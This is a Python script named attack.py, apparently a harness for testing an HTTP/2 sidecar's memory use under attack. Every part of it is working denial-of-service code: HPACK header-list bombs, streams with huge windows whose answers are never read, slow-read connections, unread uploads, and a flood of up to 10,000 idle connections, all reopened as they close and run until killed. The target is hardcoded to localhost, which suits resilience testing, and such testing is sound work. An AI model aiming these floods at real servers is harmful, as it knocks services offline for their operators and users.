"""Attackers: connections that cost the sidecar memory, opened anew as often as they are ended.

    attack.py PORT ROW      attacks until it is killed
"""

import resource
import socket
import sys
import time

from wire import (DATA, END_HEADERS, HEADERS, LARGE, frame, greeting, literal, message, number,
                  request, window_update)

STREAMS = 100  # that a client may have on a connection, by default


def streams(first_block, block, body=b"", count=STREAMS):
    flags = END_HEADERS
    for i in range(count):
        yield frame(HEADERS, flags, 2 * i + 1, first_block if i == 0 else block) + (
            frame(DATA, 0, 2 * i + 1, body) if body else b"")


def bomb(kind):
    """Header lists as long as we take them, by reference to an entry of the table: a few to one of
    3.9 kB, or many to a tiny one. Their calls stay, for the endpoint reads nothing."""
    value, count = (b"v" * 3900, 15) if kind == "few" else (b"", 1900)
    asked = request(b"stuck")
    yield greeting(window=0)
    yield from streams(literal(b"x", value, 0x40) + asked, asked + number(62, 7, 0x80) * count)


def unread():
    """Calls with endless answers and windows as large as there are, and nobody reads."""
    yield greeting(window=LARGE) + window_update(0, LARGE - 65535)
    yield from streams(request(), request(), body=message(b""))


def dribble():
    """The same with small windows; they are opened by a KiB a second each."""
    yield greeting(window=1024) + window_update(0, LARGE - 65535)
    yield from streams(request(), request(), body=message(b""))


def upload():
    """Requests of 64 KiB each, to an endpoint that reads none."""
    block = request(b"stuck")
    yield greeting()
    for i in range(STREAMS):
        yield frame(HEADERS, END_HEADERS, 2 * i + 1, block)
    for _ in range(4):
        for i in range(STREAMS):
            yield frame(DATA, 0, 2 * i + 1, b"u" * 16000)


def silent():
    yield greeting()


class Attack:
    """Keeps `count` connections, each of which begins with what `opening` makes, open anew as they
    end; `rate`: no more new ones a second."""

    def __init__(self, port, count, opening, rate=1000, reads=False, credit=0):
        self.port, self.count, self.opening = port, count, opening
        self.rate, self.reads, self.credit = rate, reads, credit

    def __call__(self):
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
        live, begun, last_credit = [], time.monotonic(), time.monotonic()
        opened = 0
        while True:
            may = int((time.monotonic() - begun) * self.rate) - opened
            for _ in range(min(self.count - len(live), max(may, 0))):
                each = self.connect(opened)
                opened += 1
                if each:
                    live.append(each)
            live = [each for each in live if self.go_on(each)]
            if self.credit and time.monotonic() - last_credit >= 1:
                last_credit += 1
                for _, out in live:
                    out.extend(b"".join(window_update(2 * i + 1, self.credit)
                                        for i in range(STREAMS)))
            time.sleep(0.005)

    def connect(self, index):
        sock = socket.socket()
        if not self.reads:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.settimeout(1)
        try:
            sock.connect(("127.0.0.1", self.port))
        except OSError:
            sock.close()
            return None
        sock.setblocking(False)
        opening = self.opening
        if isinstance(opening, tuple):
            opening = opening[index % len(opening)]
        return sock, bytearray(b"".join(opening()))

    def go_on(self, each):
        sock, out = each
        try:
            if out:
                del out[:sock.send(out[:262144])]
            if self.reads and not sock.recv(65536):
                raise ConnectionResetError
        except BlockingIOError:
            pass
        except OSError:
            sock.close()
            return False
        # Of a connection that is never read from, only an error tells that it is over.
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            sock.close()
            return False
        return True


ROWS = {
    "bomb": (20, (lambda: bomb("few"), lambda: bomb("many")), {}),
    "unread": (12, unread, {}),
    "connections": (10000, silent, {}),
    "slow": (20, dribble, {"reads": True, "credit": 1024}),
    "upload": (20, upload, {}),
}
TITLES = {
    "bomb": "header bombs on 20 connections",
    "unread": "12 connections that read no answers",
    "connections": "1,000 connections a second, up to 10,000",
    "slow": "2,000 streams that read 1 KiB a second each",
    "upload": "2,000 streams whose endpoint reads nothing",
}


def main():
    port, name = sys.argv[1:]
    count, opening, options = ROWS[name]
    Attack(int(port), count, opening, **options)()


if __name__ == "__main__":
    main()
